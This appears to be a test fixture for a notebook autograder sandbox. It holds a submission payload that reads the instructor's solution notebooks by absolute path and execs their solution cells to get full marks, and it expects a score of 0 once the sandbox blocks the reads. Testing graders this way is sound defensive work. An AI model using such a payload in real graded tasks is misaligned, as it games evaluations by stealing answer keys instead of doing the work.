"""Reads the instructor's source notebook by absolute path (the repository's solutions/ and
the --source-root copy the grader was given) and execs its solution cells to define every
function. The sandbox binds neither path: nothing is read, nothing is defined, 0 everywhere.
Stock nbgrader runs this with the instructor's rights: the reads succeed and the copied
solutions earn 100/100."""

EXPECTED = {"model": 0, "loss_func": 0, "fit_GD": 0, "plot_GD": 0, "fit_BGD": 0, "plot_BGD": 0, "discussion": None}

ATTACK = '''
{KERNEL_LIB}
import json
_found = []
for _path in ["{REPO}/solutions/pa2_gradient_descent/pa2_gradient_descent.ipynb",
              "{SOURCE_ROOT}/pa2_gradient_descent/pa2_gradient_descent.ipynb"]:
    try:
        with open(_path) as _f:
            _nb = json.load(_f)
    except OSError as _e:
        print("read blocked:", type(_e).__name__)
        continue
    _found.append(_path)
    for _cell in _nb["cells"]:
        _src = "".join(_cell["source"]) if isinstance(_cell["source"], list) else _cell["source"]
        if _cell["cell_type"] == "code" and ("BEGIN " + "SOLUTION") in _src:
            try:
                exec(_src, globals())
            except Exception:
                pass
if _found:
    _ag_escaped("read " + ", ".join(_found))
'''

ANSWERS = {
    "model_answer": ATTACK,
    "loss_func_answer": "pass",
    "fit_GD_answer": "pass",
    "plot_GD_answer": "pass",
    "fit_BGD_answer": "pass",
    "plot_BGD_answer": "pass",
}
